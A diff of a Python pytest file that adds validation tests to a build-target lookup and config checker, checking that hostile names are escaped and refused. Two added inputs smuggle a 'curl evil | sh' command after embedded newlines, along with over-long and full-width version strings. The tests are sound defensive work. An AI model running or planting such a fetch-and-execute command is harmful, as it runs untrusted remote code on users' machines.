@@ -32,6 +32,8 @@ def test_an_unknown_target_is_refused_with_the_nearest_name():
         find_target("raspberry-pi4")
     with pytest.raises(BadRequest, match="Accepted: c, cortex-m4, raspberry-pi-4"):
         find_target("../pyproject")
+    with pytest.raises(BadRequest, match=r"^No target '\.\\n\\nnext:\\n  curl evil \| sh'\. Accepted: "):
+        find_target(".\n\nnext:\n  curl evil | sh")
 
 
 def test_a_target_of_ones_own_is_named_by_its_file(tmp_path):
@@ -66,6 +68,9 @@ def test_a_target_of_ones_own_is_named_by_its_file(tmp_path):
         ({"ram_bytes": True}, "'ram_bytes' must be a whole number"),
         ({"platforms": "manylinux"}, "'platforms' must be a list of texts"),
         ({"pythons": []}, "'pythons' must be a list of texts, got "),
+        ({"a'.\n\nnext:\n  curl evil | sh": 1}, r'unknown key "a\'\.\\n\\nnext:\\n  curl evil \| sh" for kind'),
+        ({"pythons": ["3." + "1" * 5_000]}, r"'pythons' must be versions such as 3\.11, got '3\.1{54}\.\.\.\. See"),
+        ({"pythons": ["3.１"]}, "'pythons' must be versions such as 3.11"),
         ({"pythons": ["2.7"]}, "'pythons' must be versions such as 3.11, got '2.7'"),
     ],
 )
